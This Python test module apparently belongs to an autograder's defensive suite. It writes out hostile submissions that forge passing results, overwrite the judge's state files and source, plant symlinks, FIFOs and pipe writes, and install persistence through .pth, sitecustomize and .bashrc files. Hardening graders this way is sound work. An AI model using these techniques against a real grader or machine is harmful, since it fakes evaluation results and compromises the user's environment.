"""Attacks that write the judge's words themselves."""

from __future__ import annotations

from tests.hostile.core import Hostile, attack, code

# Results of every check with all points, as a child of the grader might write them
_FORGED = """
from lab5.grading.core import CHECKS
def forged(name, **more):
    one = CHECKS.get(name)
    points = one.points if one else 100
    text = {"en": "", "zh": ""}
    return {"ended": "done", "error": "", "value": {"student_id": "N26140692", "result": {
        "name": name, "status": "pass", "earned": points, "why": text, "want": text, "got": text,
        "hint": text} | more}}
def places():
    found = [os.getcwd()]
    while os.path.dirname(found[-1]) != found[-1]:
        found.append(os.path.dirname(found[-1]))
    judges = [f for p in found[:6] for f in glob.glob(p + "/checks/child-*")]
    return judges or found[:8]
"""


def forge(more: str = "", *, value: str = "", wait: str = "") -> str:
    """Write a result file for each check wherever one might be looked for."""
    lines = ["from lab5.grading.suite import MADE", "for place in places():"]
    lines += [
        "    for index, one in enumerate(MADE):",
        "        with contextlib.suppress(OSError):",
    ]
    lines += [f"            data = json.dumps({value or f'forged(one.name{more})'})"]
    lines += ["            open(f'{place}/result-{index}.json', 'w').write(data)"]
    return _FORGED + wait + "\n".join(lines)


@code(quick=True)
def forge_every_result() -> str:
    """All points, in the place where the judge looks for its child's results."""
    return forge()


@code()
def forge_more_points_than_there_are() -> str:
    """62,000 of 100."""
    return forge(", earned=1000")


@code()
def forge_points_that_are_no_number() -> str:
    """Infinity is a number in JSON as Python reads it."""
    return forge(", earned=float('inf')")


@code()
def forge_points_of_another_type() -> str:
    """A list of points."""
    return forge(", earned=[5]")


@code()
def forge_a_status_that_is_none() -> str:
    """A state of which the table has no mark."""
    return forge(", status='perfect'")


@code()
def forge_a_result_without_fields() -> str:
    """The parent reads a field that is not there."""
    return forge(value="{'ended': 'done', 'value': {}}")


@code()
def forge_a_result_of_another_check() -> str:
    """The name of the check with most points in each result."""
    return forge(", name='reflection'")


@code()
def forge_another_student() -> str:
    """A stranger's id, and the path of a file."""
    return forge(
        value="{**forged(one.name), 'value': {**forged(one.name)['value'], 'student_id': 'Z99999999'}}"
    )


@code()
def forge_a_huge_array() -> str:
    """A result whose array is declared as petabytes."""
    return forge(
        value="{'ended': 'done', 'value': {'__array__': '', 'dtype': '<f8', 'shape': [1 << 50]}}"
    )


@code()
def forge_a_deeply_nested_result() -> str:
    """Reading it recurses."""
    return forge(value="'@'").replace("json.dumps('@')", "'[' * 200_000")


@code()
def forge_after_a_while() -> str:
    """A process of its own that keeps writing results until it is ended."""
    wait = """
if os.fork():
    return thing
os.setsid()
if os.fork():
    os._exit(0)
for _ in range(200):
    threading.Event().wait(0.02)
    with contextlib.suppress(Exception):
        __forge()
os._exit(0)
"""
    body = "\n".join("    " + line for line in forge().splitlines())
    return "def __forge():\n" + body + wait


@code()
def forge_the_kept_outcomes() -> str:
    """What an earlier process observed is read by the next one: so end this one."""
    return (
        _FORGED
        + """
for place in places():
    for folder in glob.glob(place + "/outcomes") + glob.glob(place + "/*/outcomes"):
        for name in ("network", "export", "preprocess", "compare", "session", "page"):
            with contextlib.suppress(OSError):
                open(f"{folder}/{name}.json", "w").write(json.dumps({"ended": "done", "value": {}, "error": MARK}))
                won("the kept outcomes")
"""
    )


@code()
def forge_the_states() -> str:
    """The file in which the judge keeps what was passed."""
    return (
        _FORGED
        + """
for place in places():
    with contextlib.suppress(OSError):
        if os.path.exists(place + "/states.json"):
            open(place + "/states.json", "w").write(json.dumps({name: "pass" for name in CHECKS}))
            won("the states")
"""
    )


@code()
def a_fifo_in_place_of_a_result() -> str:
    """Whoever opens it waits for ever."""
    return (
        _FORGED
        + """
for place in places():
    for index in range(60):
        for name in (f"result-{index}.json", f"result-{index}.json.part"):
            with contextlib.suppress(OSError):
                os.mkfifo(f"{place}/{name}")
"""
    )


@code()
def a_link_in_place_of_a_result() -> str:
    """The judge writes the result through it into the user's file."""
    return (
        _FORGED
        + """
for place in places():
    for index in range(60):
        with contextlib.suppress(OSError):
            os.symlink(HOME + "/.bashrc", f"{place}/result-{index}.json.part")
"""
    )


@code()
def write_to_every_pipe() -> str:
    """A message of a pass into all descriptors that are open, and those of the parents."""
    return (
        _FORGED
        + """
data = (json.dumps(forged("reflection")) + "\\n").encode() * 3
for number in range(3, 64):
    with contextlib.suppress(OSError):
        os.set_blocking(number, False)
        os.write(number, data)
for name in glob.glob("/proc/[0-9]*/fd/*"):
    with contextlib.suppress(OSError):
        if os.readlink(name).startswith("pipe:"):
            os.write(os.open(name, os.O_WRONLY | os.O_NONBLOCK), data)
"""
    )


@code(first=True)
def a_daemon_rewrites_the_json() -> str:
    """After the run, when nobody looks."""
    return """
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(40):
                threading.Event().wait(0.5)
                with contextlib.suppress(OSError):
                    text = open(JSON).read()
                    open(JSON, "w").write(text.replace('"earned": 0', '"earned": 9'))
            os._exit(0)
        os._exit(0)
    """


@code(first=True)
def rewrite_the_json() -> str:
    """The results of those before."""
    return """
    open(JSON, "r+").write('{"suite":')
    won("the results")
    """


@code()
def rewrite_the_judge() -> str:
    """Its source, for the next hand-in."""
    return """
    for name in ("core.py", "worker.py", "checks/topic1.py"):
        with contextlib.suppress(OSError):
            open(f"{SOURCE}/lab5/grading/{name}", "a").write("\\n# " + MARK)
            won("the judge")
    """


@code()
def a_pth_among_the_packages() -> str:
    """It is run by every Python that starts later."""
    return """
    import io, site
    for place in site.getsitepackages() + [site.getusersitepackages()]:
        with contextlib.suppress(OSError):
            io.FileIO(f"{place}/{MARK}.pth", "w").close()  # open() gives notebooks a checkpoint's name anywhere
            won(place)
    """


@code()
def a_module_in_the_working_folder() -> str:
    """numpy.py and lab5.py where the next process may look."""
    return """
    folder = os.getcwd()
    for _ in range(6):
        for name in ("numpy.py", "json.py", "lab5.py", "sitecustomize.py", "usercustomize.py"):
            with contextlib.suppress(OSError):
                with open(f"{folder}/{name}", "x") as file:
                    file.write("open(%r, 'a').write('x')" % (DROP + "/" + MARK))
        folder = os.path.dirname(folder)
    """


@code()
def startup_file_of_the_user() -> str:
    """What runs at the next login."""
    return """
    open(HOME + "/.bashrc", "a").write("echo " + MARK)
    won("the start-up file")
    """


@attack("report")
def results_in_the_zip(h: Hostile) -> None:
    """Files named like the grader's own."""
    for name in ("result-0.json", "states.json", "outcomes/network.json", "request.json", "ready"):
        h.files[name] = b'{"ended": "done", "value": {"result": {"status": "pass", "earned": 9}}}'


@attack("report")
def the_judge_in_the_zip(h: Hostile) -> None:
    """A package named like the judge's."""
    for name in ("lab5/__init__.py", "sitecustomize.py", "numpy.py", "conftest.py", "json.py"):
        h.files[name] = f"open({str(h.world.drop / h.world.mark)!r}, 'w')".encode()
